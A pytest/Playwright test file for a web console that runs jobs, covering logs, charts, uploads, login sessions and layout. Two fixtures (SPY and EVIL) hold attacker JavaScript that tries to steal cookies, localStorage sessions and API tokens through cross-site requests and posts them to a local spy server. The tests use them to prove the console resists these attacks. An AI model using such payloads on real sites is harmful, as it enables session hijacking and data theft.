"""The console in a real browser. Pictures of what was seen stay in build/screens."""
import base64
import http.server
import json
import os
import shutil
import threading
from pathlib import Path

import pytest
from hosts import wait_for

playwright = pytest.importorskip("playwright.sync_api")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(not CHROMIUM, reason="no Chromium here")
QUIET = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
         "--disable-background-networking", "--disable-component-update"]
TALKER = ["sh", "-c", "for i in $(seq 60); do echo line $i of sixty; "
          "[ $i != 30 ] || until [ -e go ]; do sleep 0.05; done; done"]
playwright.expect.set_options(timeout=120_000)


@pytest.fixture(scope="module")
def browser():
    with playwright.sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, args=QUIET)
        yield chromium
        chromium.close()


@pytest.fixture
def screens(root):
    folder = Path(os.environ.get("MUSTER_SCREENS", root / "build/screens"))
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@pytest.fixture
def page(browser, server):
    """Logged in by the link that `muster serve` prints; whatever the page throws fails the test."""
    context = browser.new_context(viewport={"width": 1200, "height": 800})
    context.set_default_timeout(120_000)
    page = context.new_page()
    thrown = []
    page.on("pageerror", lambda e: thrown.append(str(e)))
    page.goto(f"{server.address}/#token={server.token}")
    page.wait_for_selector("h1:has-text('Jobs')")
    yield page
    context.close()
    assert not thrown


def submit(server, name, command, **more):
    return server.json("POST", "/api/jobs", {"name": name, "spec": {
        "kind": "command", "command": command, **more}})


def test_without_the_link_nothing_is_shown(browser, server):
    context = browser.new_context()
    page = context.new_page()
    page.goto(server.address)
    page.wait_for_selector("text=Not logged in")
    context.close()


def test_a_job_is_watched_live_to_its_end(page, server, screens):
    job = submit(server, "talker", TALKER)
    page.click("a:has-text('talker')")
    page.wait_for_selector("text=line 5 of sixty")
    page.wait_for_selector(".state.running")            # it was seen while it ran
    (server.work(job) / "go").touch()
    page.wait_for_selector(".state.succeeded")
    page.wait_for_selector("text=line 60 of sixty")
    page.fill("input[placeholder='Search the log']", "line 42")
    playwright.expect(page.locator(".log .line")).to_have_count(1)
    with page.expect_download() as whole:
        page.click("text=whole log")
    text = Path(whole.value.path()).read_text()
    assert whole.value.suggested_filename.endswith(".log")
    assert "line 1 of sixty\n" in text and "line 60 of sixty\n" in text
    page.screenshot(path=screens / "job.png", full_page=True)


def test_curves_are_drawn_of_what_a_job_reports(page, server, screens):
    script = ("for i in $(seq 50); do echo \"{\\\"step\\\": $i, \\\"loss\\\": $((100 - i))}\" "
              ">> metrics.jsonl; done")
    for name in ("curve-1", "curve-2"):
        submit(server, name, ["sh", "-c", script])
        server.reach(name, "succeeded")
    page.goto(f"{server.address}/#/jobs/default/curve-1")
    page.wait_for_selector(".plot canvas")
    page.screenshot(path=screens / "curves.png")
    page.goto(f"{server.address}/#/jobs")
    for name in ("curve-1", "curve-2"):
        page.check(f"input[aria-label='pick {name}']")
    page.click("text=Compare 2")
    page.wait_for_selector(".plot canvas")
    page.wait_for_selector(".u-legend:has-text('curve-2')")
    page.screenshot(path=screens / "compare.png")


def test_cancel_and_run_again(page, server):
    submit(server, "sleeper", ["sleep", "6000"])
    server.reach("sleeper", "running")
    page.goto(f"{server.address}/#/jobs/default/sleeper")
    page.click("button:has-text('Cancel')")
    page.wait_for_selector(".state.cancelled")
    page.click("button:has-text('Run again')")
    page.wait_for_url(lambda url: not url.endswith("/sleeper"))
    page.wait_for_selector(".state.running")
    page.click("button:has-text('Cancel')")
    page.wait_for_selector(".state.cancelled")


def test_upload_and_preview(page, screens, tmp_path):
    table = tmp_path / "table.csv"
    table.write_text('name,note\nada,"a ""quoted"" word, and a comma"\n')
    page.keyboard.press("g")
    page.keyboard.press("b")
    page.fill("input[placeholder='new-bucket']", "console-data")
    page.click("button:has-text('Make')")
    page.click("a:has-text('console-data')")
    page.set_input_files("input[type=file]", table)
    page.click("a:has-text('table.csv')")
    page.wait_for_selector("td:has-text('a \"quoted\" word, and a comma')")
    page.screenshot(path=screens / "bucket.png")


SESSION = "localStorage.getItem('muster.session')"


def test_the_links_token_leaves_the_browser_and_log_out_ends_the_session(page, server):
    assert page.url == f"{server.address}/#/jobs"
    assert page.context.cookies() == [] and page.evaluate("document.cookie") == ""
    session = page.evaluate(SESSION)
    assert session.startswith("web_") and server.token not in str(page.context.storage_state())
    assert server.call("GET", "/api/whoami", token=session)[0] == 200
    page.go_back()
    assert "token" not in page.url
    page.goto(f"{server.address}/#/jobs")
    page.click("button:has-text('Log out')")
    page.wait_for_selector(".trouble:has-text('Not logged in')")
    assert page.evaluate(SESSION) is None
    assert server.call("GET", "/api/whoami", token=session)[0] == 401
    page.goto(f"{server.address}/#token={server.token}")        # the same tab: only the # changes
    page.wait_for_selector("h1:has-text('Jobs')")
    page.wait_for_selector(".trouble", state="detached")
    page.wait_for_url(f"{server.address}/#/jobs")


def test_a_second_tab_and_a_reload_are_logged_in_until_log_out(page, server):
    session = page.evaluate(SESSION)
    page.reload()
    page.wait_for_selector(".empty:has-text('No jobs yet')")
    second = page.context.new_page()
    second.goto(f"{server.address}/#/machine")
    second.wait_for_selector(".gauge:has-text('CPU')")
    second.goto(f"http://localhost:{server.port}/#/machine")    # the name leads to the address
    second.wait_for_selector(".gauge:has-text('CPU')")
    assert second.url == f"{server.address}/#/machine"
    second.goto(f"{server.address}/#token={server.token}")      # the link again: a session that replaces the first
    second.wait_for_url(f"{server.address}/#/jobs")
    wait_for(lambda: server.call("GET", "/api/whoami", token=session)[0] == 401)
    page.goto(f"{server.address}/#/machine")
    page.wait_for_selector(".gauge:has-text('CPU')")
    page.click("button:has-text('Log out')")
    second.wait_for_selector(".trouble:has-text('Not logged in')")


PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
                       "rkJggg==")


def test_files_and_pictures_are_fetched_by_tickets(page, server):
    asked = []
    page.on("request", lambda r: asked.append(r.url))
    submit(server, "leaves", ["sh", "-c", "echo 'all of it' > \"it's 100% #1.txt\""])
    server.reach("leaves", "succeeded")
    page.goto(f"{server.address}/#/jobs/default/leaves")
    with page.expect_download() as saved:
        page.click("button:has-text('100% #1.txt')")
    assert saved.value.suggested_filename == "it's 100% #1.txt"
    assert Path(saved.value.path()).read_text() == "all of it\n"
    asked.append(saved.value.url)
    server.json("POST", "/storage/v1/b?project=default", {"name": "pictures"})
    server.call("POST", "/upload/storage/v1/b/pictures/o?uploadType=media&name=dot.png", PNG,
                headers={"Content-Type": "image/png"})
    page.goto(f"{server.address}/#/buckets/pictures")
    page.click("a:has-text('dot.png')")
    wait_for(lambda: page.evaluate("[...document.images].some((i) => i.naturalWidth === 1)"))
    with page.expect_download() as saved:
        page.click("button:has-text('Download')")
    assert Path(saved.value.path()).read_bytes() == PNG
    asked.append(saved.value.url)
    session = page.evaluate(SESSION)
    assert sum("ticket=" in url for url in asked) >= 3
    assert not [url for url in asked if session in url or server.token in url]
    for url in asked:           # a ticket opens its own address and nothing else
        if "ticket=" in url:
            ticket = url.rpartition("ticket=")[2]
            assert server.call("GET", f"/api/jobs?ticket={ticket}", token="")[0] == 401


def test_a_log_is_followed_across_a_restart_each_line_once(page, server):
    job = submit(server, "talker", TALKER)
    page.goto(f"{server.address}/#/jobs/default/talker")
    page.wait_for_selector("text=line 30 of sixty")
    port = server.port
    server.kill()
    server.start("--port", port)
    (server.work(job) / "go").touch()
    page.wait_for_selector("text=line 60 of sixty")
    assert page.locator(".log .line").count() == 60


# A page of the attacker's: whatever its browser lets it reach and take is sent to its own server.
SPY = """<!doctype html><body><script>
const at = new URLSearchParams(location.search).get('at'), took = [];
const tell = (what, value) => took.push([what, String(value)]);
const frame = document.body.appendChild(document.createElement('iframe'));
frame.src = at + '/';
addEventListener('message', (e) => tell('message', JSON.stringify(e.data)));
const tries = {
  cookie: () => document.cookie,
  storage: () => JSON.stringify({...localStorage, ...sessionStorage}),
  read: () => fetch(at + '/api/whoami', {credentials: 'include'}).then((a) => a.text()),
  token: () => fetch(at + '/api/projects/default/tokens', {method: 'POST', credentials: 'include', body: '{}',
    headers: {'Content-Type': 'text/plain'}}).then((a) => a.text()),
  blind: () => fetch(at + '/api/projects/default/tokens', {method: 'POST', credentials: 'include', mode: 'no-cors',
    body: '{}'}).then((a) => a.text()),
  ticket: () => fetch(at + '/api/tickets', {method: 'POST', credentials: 'include', mode: 'no-cors',
    body: '{"target": "/api/jobs"}'}).then((a) => a.text()),
  events: () => new Promise((done) => { const s = new EventSource(at + '/api/jobs/default/x/events?follow=1',
    {withCredentials: true}); s.onmessage = (e) => done(e.data); s.onerror = () => done(''); }),
  script: () => new Promise((done) => { const s = document.createElement('script'); s.src = at + '/api/jobs';
    s.onload = () => done('loaded'); s.onerror = () => done(''); document.body.append(s); }),
  picture: () => new Promise((done) => { const s = new Image(); s.src = at + '/api/jobs';
    s.onload = () => done('loaded'); s.onerror = () => done(''); }),
  framed: () => new Promise((done) => setTimeout(() => { try { done(frame.contentWindow.localStorage.length); }
                                                         catch (e) { done(''); } }, 500)),
  opened: () => { const w = open(at + '/'); w.postMessage({session: 1}, '*');
    return new Promise((done) => setTimeout(() => { try { done(w.localStorage.getItem('muster.session')); }
                                                    catch (e) { done(''); } w.close(); }, 500)); },
  worker: () => navigator.serviceWorker.register(at + '/console/app.js').then(() => 'registered'),
};
const attempt = ([name, f]) => Promise.resolve().then(f).then((v) => tell(name, v), () => tell(name, ''));
Promise.all(Object.entries(tries).map(attempt))
  .then(() => fetch('/took', {method: 'POST', body: JSON.stringify(took)})).then(() => document.title = 'done');
</script>"""


class Spy:
    """A program that listens on another port of this machine, and keeps all that it is sent."""

    def __init__(self):
        self.heard, self.took = [], []
        spy = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                spy.heard.append((self.path, dict(self.headers)))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(SPY.encode() if "?at=" in self.path else b"nothing")

            def do_POST(self):
                spy.heard.append((self.path, dict(self.headers)))
                spy.took += json.loads(self.rfile.read(int(self.headers["Content-Length"])))     # of /took
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def spy():
    s = Spy()
    yield s
    s.close()


def test_a_program_on_another_port_cannot_take_over_the_session(page, server, spy):
    """It is opened in the browser that is logged in; all that it gets hold of is tried at the server."""
    session = page.evaluate(SESSION) or ""
    before = server.json("GET", "/api/projects/default/tokens")
    for host in ("127.0.0.1", "localhost"):
        other = page.context.new_page()
        other.goto(f"http://{host}:{spy.port}/?at={server.address}")
        other.wait_for_function("document.title === 'done'")
        other.close()
    page.evaluate(f"open('http://127.0.0.1:{spy.port}/from-the-console')")      # a link in the console
    wait_for(lambda: any(path == "/from-the-console" for path, _ in spy.heard))
    page.evaluate(f"location.href = 'http://127.0.0.1:{spy.port}/?at={server.address}'")
    page.wait_for_function("document.title === 'done'")

    assert len(spy.took) >= 3 * 12
    for what, value in spy.took:
        assert value in ("", "{}", "0", "null"), (what, value)      # its own empty storage, at most
    assert not [h for _, h in spy.heard if h.get("Referer", "").startswith(server.address)]
    everything = json.dumps([spy.heard, spy.took])
    assert server.token not in everything and (not session or session not in everything)
    for path, headers in spy.heard:
        sent = {k: v for k, v in headers.items() if k not in ("Host", "Content-Length", "Connection")}
        for method, at in (("GET", "/api/whoami"), ("GET", "/api/jobs"), ("POST", "/api/projects/default/tokens"),
                           ("POST", "/api/tickets"), ("GET", f"/api/jobs?{path.partition('?')[2]}")):
            for extra in ({}, {"X-Muster": "1"}):
                assert server.call(method, at, token="", headers={**sent, **extra})[0] == 401, (method, at, sent)
    assert server.json("GET", "/api/projects/default/tokens") == before
    page.goto(f"{server.address}/#/machine")            # and the console goes on
    page.wait_for_selector(".gauge:has-text('CPU')")


EVIL = """<!doctype html><h1 id=shown>A page</h1><img src="SPY/picture"><link rel=stylesheet href="SPY/style">
<meta http-equiv=refresh content="0;url=SPY/refresh"><form action="SPY/form"><button>go</button></form>
<script>parent.postMessage('ran', '*'); fetch('SPY/script?' + localStorage.getItem('muster.session'))</script>"""


def test_a_page_that_a_user_stored_does_not_run_on_the_consoles_origin(page, server, spy):
    """As an object of a bucket, opened by its address with a token in it."""
    text = EVIL.replace("SPY", f"http://127.0.0.1:{spy.port}")
    server.json("POST", "/storage/v1/b?project=default", {"name": "pages"})
    server.call("POST", "/upload/storage/v1/b/pages/o?uploadType=media&name=a.html", text.encode(),
                headers={"Content-Type": "text/html"})
    other = page.context.new_page()
    other.goto(f"{server.url}/download/storage/v1/b/pages/o/a.html?alt=media")
    other.wait_for_selector("#shown")
    other.wait_for_timeout(300)
    assert not [path for path, _ in spy.heard if path.startswith(("/script", "/picture", "/style"))]
    assert server.token not in json.dumps(spy.heard)


def test_it_fits_a_phone_in_the_dark(browser, server, screens):
    context = browser.new_context(viewport={"width": 390, "height": 800}, color_scheme="dark")
    page = context.new_page()
    page.goto(f"{server.address}/#token={server.token}")
    page.wait_for_selector("h1:has-text('Jobs')")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.screenshot(path=screens / "phone.png")
    context.close()


def test_the_first_paint_and_the_size(page, server):
    page.goto(f"{server.address}/#/machine")
    page.reload()
    page.wait_for_selector("h1:has-text('Machine')")
    page.wait_for_function("performance.getEntriesByName('first-contentful-paint').length")
    paint = page.evaluate("performance.getEntriesByName('first-contentful-paint')[0].startTime")
    pages = [server.call("GET", at, token="") for at in ("/", "/console/app.js", "/console/app.css")]
    size = sum(len(body) for _, _, body in pages)
    print(f"first paint {paint:.0f} ms, {size} bytes")
    assert all(headers["Content-Encoding"] == "gzip" for _, headers, _ in pages)
    assert 10_000 < size < 200_000
